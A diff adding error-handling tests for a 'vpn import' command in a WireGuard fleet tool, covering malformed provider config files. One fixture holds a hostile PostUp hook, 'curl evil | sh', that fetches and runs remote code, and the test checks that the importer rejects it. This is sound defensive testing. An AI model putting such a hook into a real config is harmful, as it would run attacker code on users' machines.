@@ -71,6 +71,14 @@ const toml = (text: string) => (repo: string) => writeFileSync(join(repo, "wgqt.
 const appendToml = (text: string) => (repo: string) =>
   writeFileSync(join(repo, "wgqt.toml"), fill(base() + text));
 const keygen = () => ["keygen"];
+/** A provider's wg-quick file beside the fleet (not in it), with real keys for @KEY@/@PUB@. */
+const provider = (text: string) => (repo: string) =>
+  writeFileSync(
+    join(repo, "..", "provider.conf"),
+    text
+      .replace("@KEY@", ok("wg", ["genkey"]).trim())
+      .replace("@PUB@", ok("wg", ["pubkey"], { input: `${ok("wg", ["genkey"]).trim()}\n` }).trim()),
+  );
 
 const CASES: Case[] = [
   // wgqt.toml
@@ -346,6 +354,73 @@ const CASES: Case[] = [
     args: () => ["machine", "add", "cellar", "--recipient", ""],
     exit: 1,
     message: /machines\.cellar\.recipients\[0\]: /,
+  },
+  // provider files (wgqt vpn import)
+  {
+    what: "provider: a setting wgqt does not import",
+    setup: provider(
+      "[Interface]\nPrivateKey = @KEY@\nAddress = 10.64.1.2/32\nPostUp = curl evil | sh\n[Peer]\nPublicKey = @PUB@\nEndpoint = 198.51.100.7:51820\nAllowedIPs = 0.0.0.0/0\n",
+    ),
+    args: (repo) => [
+      "vpn",
+      "import",
+      "us-west",
+      "--from",
+      join(repo, "..", "provider.conf"),
+      "--machine",
+      "nyaa",
+    ],
+    exit: 1,
+    message: /provider\.conf: line 4: /,
+  },
+  {
+    what: "provider: no [Peer] public key",
+    setup: provider(
+      "[Interface]\nPrivateKey = @KEY@\nAddress = 10.64.1.2/32\n[Peer]\nEndpoint = 198.51.100.7:51820\nAllowedIPs = 0.0.0.0/0\n",
+    ),
+    args: (repo) => [
+      "vpn",
+      "import",
+      "us-west",
+      "--from",
+      join(repo, "..", "provider.conf"),
+      "--machine",
+      "nyaa",
+    ],
+    exit: 1,
+    message: /provider\.conf: .*PublicKey/,
+  },
+  {
+    what: "provider: a private key that is not a key",
+    setup: provider(
+      "[Interface]\nPrivateKey = c2VjcmV0LXRoYXQtaXMtdG9vLXNob3J0\nAddress = 10.64.1.2/32\n[Peer]\nPublicKey = @PUB@\nEndpoint = 198.51.100.7:51820\nAllowedIPs = 0.0.0.0/0\n",
+    ),
+    args: (repo) => [
+      "vpn",
+      "import",
+      "us-west",
+      "--from",
+      join(repo, "..", "provider.conf"),
+      "--machine",
+      "nyaa",
+    ],
+    exit: 1,
+    message: /provider\.conf: line 2: (?!.*c2VjcmV0)/,
+  },
+  {
+    what: "provider: a file that is not WireGuard at all",
+    setup: provider("<html>404 Not Found</html>\n"),
+    args: (repo) => [
+      "vpn",
+      "import",
+      "us-west",
+      "--from",
+      join(repo, "..", "provider.conf"),
+      "--machine",
+      "nyaa",
+    ],
+    exit: 1,
+    message: /provider\.conf: line 1: /,
   },
   // store files
   {
